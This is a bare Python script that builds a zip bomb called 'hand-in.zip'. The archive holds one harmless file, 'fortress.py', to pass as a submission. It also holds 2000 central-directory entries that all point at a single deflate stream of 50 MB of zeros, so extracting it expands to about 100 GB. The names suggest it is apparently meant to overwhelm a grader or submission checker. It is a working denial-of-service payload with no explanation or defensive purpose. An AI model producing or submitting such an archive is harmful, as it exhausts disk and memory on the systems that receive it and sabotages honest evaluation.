import struct
import zlib


def make(folder):
    compress = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(50_000_000)
    packed = compress.compress(zeros) + compress.flush()
    parts, listing, at = [], [], 0
    honest = HONEST.encode()
    for name, data, checksum, size, method, again in (
        ("fortress.py", honest, zlib.crc32(honest), len(honest), 0, 1),
        ("data{}.bin", packed, zlib.crc32(zeros), len(zeros), 8, 2000),
    ):
        head = (20, 0, method, 0, 0x21, checksum, len(data), size)
        local = name.format("").encode()
        parts.append(struct.pack("<IHHHHHIIIHH", 0x04034B50, *head, len(local), 0) + local + data)
        for number in range(again):
            shown = name.format(number).encode()
            listing.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *head, len(shown), 0, 0, 0, 0, 0, at)
                           + shown)
        at += len(parts[-1])
    table = b"".join(listing)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(listing), len(listing), len(table), at, 0)
    (folder / "hand-in.zip").write_bytes(b"".join(parts) + table + end)


HONEST = "def scale(x, factor):\n    return x * factor\n"
